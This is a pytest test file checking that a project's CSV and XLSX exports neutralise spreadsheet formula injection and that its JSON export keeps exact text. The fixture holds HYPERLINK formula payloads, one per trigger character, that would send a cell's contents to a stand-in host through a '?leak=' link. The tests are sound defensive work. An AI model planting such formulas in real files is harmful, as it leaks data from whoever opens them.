"""Exports a spreadsheet opens safely: no cell runs as a formula; JSON keeps the exact text."""

import csv
import io
import json

import openpyxl
import pytest

from tiers.importing.files import export_bytes, import_file
from tiers.importing.formats import CSVFormat, JSONFormat, XLSXFormat
from tiers.models import Actor
from tiers.tests.import_support import references  # noqa: F401 (a fixture)

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
DANGEROUS = {t: f'{t}HYPERLINK("https://example.org/?leak="&A1,"click")' for t in TRIGGERS}


@pytest.fixture
def dangerous_actors(request):
    request.getfixturevalue("references")
    for n, (trigger, name) in enumerate(DANGEROUS.items()):
        Actor.objects.create(
            slug=f"dangerous-{n}", name=name, kind="organisation", description=trigger
        )


def exported_names(rows):
    return {
        row["slug"]: (row["name"], row["description"])
        for row in rows
        if row["slug"].startswith("dangerous-")
    }


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_cells_starting_with_a_formula_character_are_neutralised(dangerous_actors, trigger):
    text = export_bytes("actors", CSVFormat()).decode("utf-8-sig")
    names = exported_names(csv.DictReader(io.StringIO(text, newline="")))
    slug = f"dangerous-{TRIGGERS.index(trigger)}"
    assert names[slug] == ("'" + DANGEROUS[trigger], "'" + trigger)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_xlsx_cells_starting_with_a_formula_character_are_text(dangerous_actors, trigger):
    book = openpyxl.load_workbook(io.BytesIO(export_bytes("actors", XLSXFormat())))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    rows = [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    assert all(
        cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value
    )
    slug = f"dangerous-{TRIGGERS.index(trigger)}"
    name, description = exported_names(rows)[slug]
    # A carriage return travels as OOXML's escape, which spreadsheets read as the character.
    escaped = trigger.replace("\r", "_x000D_")
    assert (name, description) == ("'" + escaped + DANGEROUS[trigger][1:], "'" + escaped)


def test_json_keeps_the_exact_text(dangerous_actors):
    records = json.loads(export_bytes("actors", JSONFormat()))
    assert exported_names(records) == {
        f"dangerous-{n}": (name, trigger) for n, (trigger, name) in enumerate(DANGEROUS.items())
    }


@pytest.mark.parametrize("file_format", [CSVFormat, XLSXFormat, JSONFormat])
def test_the_values_come_back_as_typed_in_every_format(dangerous_actors, file_format):
    data = export_bytes("actors", file_format())
    Actor.objects.filter(slug__startswith="dangerous-").update(name="changed", description="")

    result = import_file("actors", data, f"actors.{file_format().get_extension()}")

    assert result.messages() == []
    stored = dict(Actor.objects.filter(slug__startswith="dangerous-").values_list("slug", "name"))
    assert stored == {f"dangerous-{n}": name for n, name in enumerate(DANGEROUS.values())}
